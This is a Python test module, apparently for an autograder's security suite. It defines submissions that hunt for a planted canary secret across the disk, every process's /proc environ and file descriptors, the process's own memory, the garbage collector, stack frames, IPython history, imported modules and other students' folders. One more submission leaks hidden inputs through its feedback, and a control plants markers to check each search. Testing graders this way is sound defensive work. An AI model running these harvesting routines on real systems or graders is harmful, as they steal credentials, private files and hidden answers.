"""Submissions that look for secrets: whoever finds one can double, so that a point shows it."""

from tests.attacks.attack import Attack

SEARCH = r"""
import ctypes, gc, glob, os, re, sys
SOUGHT = re.compile(rb"CAN" + rb"ARY-[0-9a-f]{16}")
DULL = {"proc", "sys", "dev", "usr", "bin", "lib", "lib64", "include", "share", "site-packages", "data", "fonts"}
def read(path, size=200_000):
    try:
        with open(path, "rb", opener=lambda name, flags: os.open(name, flags | os.O_NONBLOCK)) as file:
            return file.read(size) or b""
    except (OSError, ValueError):
        return b""
def files(*roots):
    for root in roots:
        yield read(root)
        for folder, folders, names in os.walk(root):
            folders[:] = [each for each in folders if each not in DULL]
            yield from (read(os.path.join(folder, name)) for name in names)
def processes():
    for name in ("environ", "cmdline", "cwd", "root", "comm", "maps", "status", "task/*/children", "mountinfo"):
        for path in glob.glob(f"/proc/[0-9]*/{name}"):
            yield read(path)
    for path in glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd"):
        for root in target["secrets"]:
            yield read(path + root)
def descriptors():
    for path in glob.glob("/proc/[0-9]*/fd/*") + glob.glob("/proc/self/task/*/fd/*"):
        try:
            found = os.readlink(path)
        except OSError:
            continue
        if found.startswith("/"):
            yield found.encode()
            yield read(path)
            yield from (read(each) for each in glob.glob(os.path.dirname(found) + "/*") if os.path.isfile(each))
def memory():
    ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # may be dumped: its own memory may be read again
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as held:
        for line in maps.read().splitlines():
            span, rights = line.split()[:2]
            start, end = (int(each, 16) for each in span.split("-"))
            if not rights.startswith("rw") or end - start > 100_000_000:
                continue
            try:
                held.seek(start)
                yield held.read(end - start)
            except (OSError, OverflowError, ValueError):
                continue
def collected():
    for held in gc.get_objects():
        if isinstance(held, dict | list | tuple):
            for value in list(held.values()) if isinstance(held, dict) else list(held):
                if isinstance(value, str | bytes):
                    yield value if isinstance(value, bytes) else value.encode(errors="replace")
def frames():
    for frame in sys._current_frames().values():
        while frame is not None:
            yield repr([repr(value)[:10_000] for value in list(frame.f_locals.values())]).encode(errors="replace")
            yield read(frame.f_code.co_filename)
            frame = frame.f_back
def history():
    shell = get_ipython()
    yield repr([shell.user_ns.get("In"), shell.user_ns.get("Out"), shell.history_manager.input_hist_raw]).encode()
    yield repr(list(shell.history_manager.search("*"))[:1000]).encode()
    yield from files(os.path.expanduser("~"), "/tmp", shell.ipython_dir)
def environment():
    yield repr(dict(os.environ)).encode()
    yield from (read(path) for path in glob.glob("/proc/[0-9]*/environ"))
def modules():
    for name in ("hidden_tests", "course_lib.grading", "course_lib.commands", "tests.attacks", "conftest"):
        try:
            __import__(name)
        except BaseException:
            continue
    for module in list(sys.modules.values()):
        for value in list(vars(module).values()) if hasattr(module, "__dict__") else ():
            if isinstance(value, str | bytes):
                yield value if isinstance(value, bytes) else value.encode(errors="replace")
def knows(texts, sought=SOUGHT):
    return any(sought.search(text) for text in texts)
"""


def _search(name: str, where: str, how: str) -> Attack:
    return Attack(
        name,
        f"Looks for secrets {where}.",
        f"{SEARCH}\nfound = knows({how})\ndef double(x):\n    return 2 * x if found or knows({how}) else 0.0",
    )


# The same searches where there is something to find: if one found nothing here, that it finds nothing says nothing.
_PLANTED = """
def planted(number):
    return f"PLANT-{number}-{6 * 7}"
open("/tmp/planted", "w").write(planted(1))
os.environ["PLANTED"] = planted(2)
import subprocess
child = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", planted(3)])
held = open("/tmp/held", "w+")
held.write(planted(4))
held.flush()
os.unlink("/tmp/held")
collectable = [planted(5)]
sys.planted = planted(6)
open(os.path.expanduser("~/history.sqlite"), "w").write(planted(7))
searches = [lambda: files("/"), environment, processes, descriptors, collected, modules, history, memory, frames]
def double(x):
    on_the_frame = [planted(9)]
    found = [knows(search(), re.compile(planted(number).encode())) for number, search in enumerate(searches, start=1)]
    if not all(found):
        raise ValueError(found)
    return 2 * x
in_memory = planted(8)
"""

ATTACKS = (
    _search("whole-disk", "on the whole disk", "files('/')"),
    _search("known-places", "where it knows that they lie", "files(*target['secrets'])"),
    _search("proc", "in what /proc says of every process", "processes()"),
    _search("descriptors", "behind every open file", "descriptors()"),
    _search("bytes", "in its own process's memory, byte by byte", "memory()"),
    _search("garbage", "among the objects that the garbage collector knows", "collected()"),
    _search("frames", "in the variables and the sources of every frame that is running", "frames()"),
    _search("history", "in IPython's history and its files", "history()"),
    _search("environment", "in the environment of every process", "environment()"),
    _search("modules", "in every module that can be imported", "modules()"),
    _search("siblings", "in the folders of other students", "files(target['pile'], os.path.dirname(target['pile']))"),
    Attack(
        "tells-its-inputs",
        "Prints, raises and names what it is called with, to read the hidden inputs in the feedback.",
        """
import sys, warnings
def double(x):
    print(x)
    print(x, file=sys.stderr)
    warnings.warn(repr(x))
    display({"text/html": f"<b>{x}</b>"}, raw=True)
    raise type(f"Input{x}", (ValueError,), {})(f"it was {x!r} and {' '.join(str(x))}")
""",
    ),
)

CONTROL = Attack(
    "control", "No attack: finds what was planted, by each of the searches.", f"{SEARCH}\n{_PLANTED}", deserves=7
)
